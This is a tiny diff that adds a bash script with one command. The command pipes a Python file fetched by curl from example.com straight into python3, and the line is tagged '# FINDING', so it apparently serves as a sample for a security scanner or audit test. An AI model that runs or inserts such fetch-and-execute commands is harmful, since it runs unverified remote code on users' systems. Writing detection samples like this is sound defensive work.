@@ -1,0 +1,2 @@
+#!/bin/bash
+curl https://example.com/get.py | python3 -  # FINDING
